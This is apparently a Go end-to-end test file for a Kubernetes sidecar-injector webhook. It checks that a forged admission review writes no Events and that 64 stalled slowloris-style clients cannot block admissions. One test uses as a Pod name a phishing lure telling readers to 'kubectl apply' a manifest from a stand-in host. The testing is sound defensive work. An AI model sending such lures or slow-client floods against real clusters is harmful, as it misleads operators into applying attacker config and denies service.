package e2e

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	admissionv1 "k8s.io/api/admission/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"

	"github.com/samplecrd/network-controller/pkg/injector"
	"github.com/samplecrd/network-controller/test/framework"
)

// The webhook cannot tell the API server's reviews from anyone else's: a
// Pod may reach its Service. These tests hold it to what that means:
// nothing a forged review says reaches any object, and clients that send
// slowly cannot take the API server's place.

// TestAForgedReviewWritesNothing sends the webhook, as any Pod could, a
// review of a Pod that claims to be owned by an object of another
// namespace and whose name is a message to its readers. The webhook
// answers it, as it must (it cannot tell), and the answer is a patch for
// that Pod alone; and no Event or other object appears, there or anywhere.
func TestAForgedReviewWritesNothing(t *testing.T) {
	ctx := framework.TestContext(t, 2*time.Minute)
	f := newInjectorFixture(ctx, t, podTemplate)
	victim := newNamespace(ctx, t)
	target, err := f.kube.CoreV1().ConfigMaps(victim).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "payments"}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	text := "Your payments are being rerouted; run kubectl apply -f http://example.invalid/fix.yaml"
	pod := f.pod(nil)
	pod.Name, pod.GenerateName, pod.Namespace = text, "", victim
	pod.OwnerReferences = []metav1.OwnerReference{{APIVersion: "v1", Kind: "ConfigMap", Name: target.Name, UID: target.UID, Controller: ptr.To(true)}}
	before := f.admissions(ctx, t, map[string]string{"result": injector.ResultInjected})

	response := forgeReview(ctx, t, f, pod)
	if !response.Allowed || response.PatchType == nil || len(response.Patch) == 0 {
		t.Fatalf("the forged review's answer: %+v, want the injection patch", response)
	}
	if after := f.admissions(ctx, t, map[string]string{"result": injector.ResultInjected}); after != before+1 {
		t.Fatalf("envoy_injector_admissions_total{result=injected} went from %v to %v: the review was not decided", before, after)
	}
	// Absence has no event to wait for: watch for a while, longer than an
	// Event recorder takes to write (milliseconds), for any Event.
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		events, err := f.kube.CoreV1().Events("").List(ctx, metav1.ListOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range events.Items {
			if e.Namespace == victim || e.Source.Component == "envoy-injector" || strings.Contains(e.Message, "rerouted") {
				t.Fatalf("a forged review wrote Event %s/%s: %s %s %q", e.Namespace, e.Name, e.Type, e.Reason, e.Message)
			}
		}
		select {
		case <-ctx.Done():
			t.Fatal(ctx.Err())
		case <-time.After(200 * time.Millisecond):
		}
	}
	if now, err := f.kube.CoreV1().ConfigMaps(victim).Get(ctx, target.Name, metav1.GetOptions{}); err != nil || now.ResourceVersion != target.ResourceVersion {
		t.Errorf("the object the forged review named was changed: %v, %v", now, err)
	}
}

// forgeReview posts an AdmissionReview of pod straight to the webhook, as
// a client that is not the API server, and returns the answer.
func forgeReview(ctx context.Context, t *testing.T, f *injectorFixture, pod *corev1.Pod) *admissionv1.AdmissionResponse {
	t.Helper()
	raw, err := json.Marshal(pod)
	if err != nil {
		t.Fatal(err)
	}
	review := admissionv1.AdmissionReview{
		TypeMeta: metav1.TypeMeta{APIVersion: "admission.k8s.io/v1", Kind: "AdmissionReview"},
		Request: &admissionv1.AdmissionRequest{UID: types.UID("forged"), Kind: metav1.GroupVersionKind{Version: "v1", Kind: "Pod"},
			Resource: metav1.GroupVersionResource{Version: "v1", Resource: "pods"}, Namespace: pod.Namespace, Name: pod.Name,
			Operation: admissionv1.Create, Object: runtime.RawExtension{Raw: raw}},
	}
	body, err := json.Marshal(review)
	if err != nil {
		t.Fatal(err)
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+f.addr+"/mutate", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := webhookClient(f).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var answer admissionv1.AdmissionReview
	if err := json.NewDecoder(resp.Body).Decode(&answer); err != nil || answer.Response == nil {
		t.Fatalf("the webhook's answer (%s): %v", resp.Status, err)
	}
	return answer.Response
}

func webhookClient(f *injectorFixture) *http.Client {
	return &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: webhookTLS(f)}}
}

func webhookTLS(f *injectorFixture) *tls.Config {
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(f.certs.CAPEM)
	return &tls.Config{RootCAs: pool}
}

// TestSlowClientsDoNotRefuseTheAPIServer: as many clients as the webhook
// has slots (--max-concurrent-reviews, 64) each start a review and stop
// sending its body, after the webhook has begun to read it (its 100
// Continue says so). A Pod created through the API server meanwhile is
// admitted and injected at once: a slow client holds its connection, not
// a slot.
func TestSlowClientsDoNotRefuseTheAPIServer(t *testing.T) {
	ctx := framework.TestContext(t, 2*time.Minute)
	f := newInjectorFixture(ctx, t, podTemplate)
	overloaded := f.admissions(ctx, t, map[string]string{"result": injector.ResultOverloaded})
	for i := range 64 {
		conn, err := tls.Dial("tcp", f.addr, webhookTLS(f))
		if err != nil {
			t.Fatalf("slow client %d: %v", i, err)
		}
		t.Cleanup(func() { _ = conn.Close() })
		fmt.Fprintf(conn, "POST /mutate HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 4096\r\nExpect: 100-continue\r\n\r\n", f.addr)
		line, err := bufio.NewReader(io.LimitReader(conn, 1024)).ReadString('\n')
		if err != nil || !strings.Contains(line, "100 Continue") {
			t.Fatalf("slow client %d: the webhook answered %q, %v; want 100 Continue, its handler reading the body", i, line, err)
		}
		fmt.Fprint(conn, `{"apiVersion":`)
	}
	p, err := f.create(ctx, f.pod(nil))
	if err != nil {
		t.Fatalf("a Pod created through the API server behind 64 slow clients was refused: %v", err)
	}
	if _, ok := injector.ReadStatus(p.Annotations); !ok {
		t.Errorf("the Pod was admitted without the sidecar: %v", p.Annotations)
	}
	if n := f.admissions(ctx, t, map[string]string{"result": injector.ResultOverloaded}); n != overloaded {
		t.Errorf("envoy_injector_admissions_total{result=overloaded} went from %v to %v", overloaded, n)
	}
}
